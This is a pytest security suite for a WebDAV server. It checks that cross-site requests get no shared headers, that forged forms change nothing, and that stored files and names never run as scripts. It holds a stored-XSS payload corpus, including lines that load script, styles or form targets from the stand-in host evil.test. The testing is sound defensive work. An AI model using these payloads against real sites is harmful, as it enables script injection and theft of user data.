"""What another site can make a browser do here: nothing that changes anything, and nothing stored runs as a page of this site."""

from __future__ import annotations

from datetime import timedelta
from typing import Final
from urllib.parse import quote
from xml.sax.saxutils import escape

import pytest

from davgate.dav.app import METHODS
from davgate.model.instant import to_datetime
from tests.attacks.house import House
from tests.attacks.pages import Page
from tests.attacks.test_paths import BODIES
from tests.protocol.client import Response, lockinfo
from tests.protocol.multistatus import locks_of, propfind

EVIL: Final = "https://evil.test"

PLACES: Final = (
    "/", "/dav", "/dav/", "/dav/work/", "/dav/work/there.txt", "/dav/work/missing.txt", "/dav/.versions/",
    "/dav/work/.versions/", "/dav/work/.versions/there.txt/", "/dav/work/.versions/there.txt/0001", "/dav/.at/",
    "/dav/.at/2026-11-20T12:00:01/work/there.txt", "/dav/.at/2026-11-20T12:00:01/", "/dav/.trash/", "/dav/.rescue/", "/healthz",
    "/readyz", "/metrics", "/missing",
)  # fmt: skip
FORMS: Final = {
    "text": ("text/plain", b"a=<D:propfind xmlns:D='DAV:'/>"),
    "urlencoded": ("application/x-www-form-urlencoded", b"_method=DELETE&a=b"),
    "multipart": (
        "multipart/form-data; boundary=x",
        b'--x\r\nContent-Disposition: form-data; name="f"; filename="x"\r\n\r\nx\r\n--x--',
    ),
}
LOOKING: Final = ("GET", "HEAD", "OPTIONS", "PROPFIND", "REPORT")


def assert_shares_nothing(response: Response) -> None:
    assert not {"set-cookie", "timing-allow-origin"} & response.headers.keys()
    assert not [name for name in response.headers if name.startswith(("access-control-", "cross-origin-"))]
    if response.body and response.status != 207:
        assert response.headers.get("x-content-type-options") == "nosniff", response
    if response.headers.get("content-type", "").startswith("text/html"):
        policy = response.headers["content-security-policy"]
        assert policy == "sandbox" or ("frame-ancestors 'none'" in policy and "default-src 'none'" in policy), policy


@pytest.mark.parametrize("place", PLACES)
def test_no_answer_is_shared_with_another_site(house: House, place: str) -> None:
    for method in ("OPTIONS", *METHODS, "POST"):
        fields = {"origin": EVIL, "referer": f"{EVIL}/", "cookie": "session=1", "sec_fetch_site": "cross-site"}
        assert_shares_nothing(house.ann(method, place, BODIES.get(method, b""), **fields))
    for asked in ("PUT", "DELETE", "PROPFIND", "LOCK"):
        preflight = {"access_control_request_method": asked, "access_control_request_headers": "authorization, depth"}
        assert_shares_nothing(house.ann("OPTIONS", place, origin=EVIL, **preflight))


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("query", ["", "?_method=DELETE", "?method=PUT&overwrite=T"])
def test_form_of_another_site_changes_nothing(house: House, form: str, query: str) -> None:
    media_type, body = FORMS[form]
    begun = house.state()

    for place in PLACES:
        for override in ({}, {"x_http_method_override": "DELETE"}, {"x_http_method": "DELETE"}, {"x_method_override": "PUT"}):
            for method in ("POST", "GET"):
                response = house.ann(method, place + query, body, content_type=media_type, origin=EVIL, **override)
                assert response.status in ((404, 405) if method == "POST" else (200, 403, 404)), (method, place, response)
                assert house.state() == begun, (method, place)


@pytest.mark.parametrize("method", LOOKING)
def test_looking_changes_nothing(house: House, method: str) -> None:
    begun = house.state()

    for place in PLACES:
        for fields in ({"depth": "0"}, {"depth": "1"}, {"overwrite": "T", "destination": "/dav/work/x"}, {"label": "x"}):
            house.ann(method, place, BODIES.get(method, b""), **fields)
            assert house.state() == begun, (place, fields)


@pytest.mark.parametrize("place", PLACES[1:15])
def test_without_a_sign_in_no_cookie_and_no_referer_help(house: House, place: str) -> None:
    for method in METHODS:
        fields = {
            "authorization": "",
            "cookie": "authorization=1; session=1",
            "origin": "http://drive.test",
            "x_forwarded_user": "bob",
        }
        assert house.ann(method, place, BODIES.get(method, b""), **fields).status == 401, method


ACTIVE: Final = {
    "a.html": "text/html", "b.html": "TEXT/HTML; charset=utf-8", "c.htm": "", "d.xhtml": "application/xhtml+xml",
    "e.svg": "image/svg+xml", "f.svg": "Image/SVG+XML", "g.xml": "text/xml", "h.xml": "application/xml",
    "i.rss": "application/rss+xml", "j.xslt": "application/xslt+xml", "k.mhtml": "multipart/related", "l.mht": "message/rfc822",
    "m.mathml": "application/mathml+xml", "n.x": "application/x-unheard-of+xml", "o.pdf": "application/pdf",
    "p.PDF": "Application/PDF", "q.js": "text/javascript", "r.txt": "text/plain", "s": "", "t.wasm": "application/wasm",
    "u.swf": "application/x-shockwave-flash", "v.png": "image/png", "w.html": "nonsense", "x.hta": "application/hta",
    "y.xsl": "text/xsl",
}  # fmt: skip


@pytest.mark.parametrize(("name", "media_type"), ACTIVE.items())
def test_stored_content_never_runs_as_a_page_of_this_site(house: House, name: str, media_type: str) -> None:
    ann = house.ann
    script = b"<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>"
    ann("PUT", f"/dav/work/{name}", script, **({"content_type": media_type} if media_type else {}))
    ann.clock.advance(timedelta(seconds=1))
    ann("PUT", f"/dav/work/dead-{name}", script, **({"content_type": media_type} if media_type else {}))
    ann("DELETE", f"/dav/work/dead-{name}")
    dead = [href for href in propfind(ann, "/dav/.trash/", "displayname", depth="1") if "dead-" in href]
    instant = (to_datetime(ann.clock.now()) - timedelta(seconds=0.5)).isoformat().replace("+00:00", "Z")
    addresses = [f"/dav/work/{name}", f"/dav/work/.versions/{name}/1", f"/dav/.at/{instant}/work/{name}", *dead]
    assert len(addresses) == 4

    for address in addresses:
        for method in ("GET", "HEAD"):
            response = ann(method, address)
            assert response.status == 200, (address, response)
            assert response.headers["x-content-type-options"] == "nosniff"
            is_apart = response.headers.get("content-disposition") == "attachment"
            assert is_apart or response.headers.get("content-security-policy") == "sandbox", (address, response)
    part = ann("GET", f"/dav/work/{name}", range="bytes=0-")
    assert part.status == 206 and part.headers["x-content-type-options"] == "nosniff"
    assert "content-security-policy" in part.headers or "content-disposition" in part.headers


# Stored scripts

EVENTS: Final = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerenter")
TAGS: Final = (
    "img src=x",
    "svg",
    "body",
    "iframe",
    "input autofocus",
    "details open",
    "video><source",
    "math",
    "object data=x",
    "marquee",
)
PLAIN: Final = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.test></script>",
    "</title><script>alert(1)</script>", "</a><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "</table><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href='javascript:alert(1)'?>", "<!DOCTYPE x>",
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" onmouseover="alert(1)', "' onmouseover='alert(1)",
    "` onmouseover=alert(1)", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\u200bscript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:x", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;",
    "&#x3c;script&#x3e;", "&amp;lt;script&amp;gt;", "&colon;", "&NewLine;", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2039script\u203a", "<\u200bscript>", "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253E",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{alert(1)}", "<%= 7*7 %>",
    "<xss style=x:expression(alert(1))>", "<style>@import'//evil.test'</style>", "<link rel=stylesheet href=//evil.test>",
    "<meta http-equiv=refresh content=0;url=//evil.test>", "<base href=//evil.test>", "<form action=//evil.test><button>",
    "<a href=//evil.test>x</a>", "<noscript><p title='</noscript><img src=x>'>", "<textarea><script>", "<plaintext>", "<xmp>",
    "<template>", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>", "\u202e<script>",
    "=HYPERLINK(\"//evil.test\")", "+ADw-script+AD4-", "<b>bold</b>", "<", ">", "&", '"', "'", "<!--", "<a", "</",
)  # fmt: skip
XSS: Final = tuple(dict.fromkeys((*PLAIN, *(f"<{tag} {event}=alert(1)>" for tag in TAGS for event in EVENTS))))


def test_corpus_is_large() -> None:
    assert len(XSS) >= 100


def test_stored_script_in_a_name_is_text_on_every_page(house: House) -> None:
    ann = house.ann
    for text in XSS:
        name = "n " + text.replace("/", "\u2044")
        folder = "/dav/work/" + quote(name, safe="")
        ann.mkcol(folder)
        ann.put(f"{folder}/{quote(name, safe='')}")
        for address in ("/dav/work/", f"{folder}/", f"{folder}/.versions/", f"{folder}/.versions/{quote(name, safe='')}/"):
            response = ann("GET", address)
            assert_shares_nothing(response)
            assert name in Page(response.body).texts or f"{name}/" in Page(response.body).texts, (address, name)
        ann("DELETE", folder)
        Page(ann("GET", "/dav/.trash/").body)


def test_stored_script_in_what_is_told_of_a_document_is_text(house: House) -> None:
    ann = house.ann
    for text in XSS:
        inside = escape(text)
        labelled = f'<D:label xmlns:D="DAV:"><D:set><D:label-name>{inside}</D:label-name></D:set></D:label>'
        prop = f'<X:note xmlns:X="urn:x">{inside}</X:note>'
        patch = f'<D:propertyupdate xmlns:D="DAV:"><D:set><D:prop>{prop}</D:prop></D:set></D:propertyupdate>'
        checked_in = f'<D:checkin xmlns:D="DAV:"><D:comment>{inside}</D:comment></D:checkin>'

        assert ann("CHECKOUT", "/dav/work/there.txt").status == 200
        assert ann("CHECKIN", "/dav/work/there.txt", checked_in).status == 201
        assert ann("LABEL", "/dav/work/there.txt", labelled).status == 200
        assert ann("PROPPATCH", "/dav/work/there.txt", patch).status == 207
        token = ann.lock("/dav/work/there.txt", owner=inside)

        for depth, address in (("0", "/dav/work/there.txt"), ("1", "/dav/work/")):
            found = propfind(ann, address, "{urn:x}note", "comment", "label-name-set", "displayname", depth=depth)
            entry = found["/dav/work/there.txt"]
            assert entry["{urn:x}note"] == text
            assert entry["comment"] == text
            label_names = ["".join(map(str, one.itertext())) for one in entry.properties["label-name-set"].element]
            assert text in label_names
        (lock,) = locks_of(ann, "/dav/work/there.txt")
        assert lock.owner == text
        history = ann("REPORT", "/dav/work/there.txt", _TREE).xml
        assert text in [element.text for element in history.iter("{DAV:}comment")]
        for address in ("/dav/work/", "/dav/work/.versions/", "/dav/work/.versions/there.txt/"):
            Page(ann("GET", address).body)
        assert ann("UNLOCK", "/dav/work/there.txt", lock_token=f"<{token}>").status == 204


_TREE: Final = '<D:version-tree xmlns:D="DAV:"><D:prop><D:comment/><D:label-name-set/></D:prop></D:version-tree>'


def test_owner_with_markup_stays_data(house: House) -> None:
    owner = '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'

    response = house.ann("LOCK", "/dav/work/there.txt", lockinfo(owner=owner))

    # Elements of an owner are kept as they were sent (RFC 4918, 14.17); nothing but a sandboxed or unsniffed XML has them.
    assert response.headers["content-type"].startswith("application/xml")
    assert response.headers["x-content-type-options"] == "nosniff"
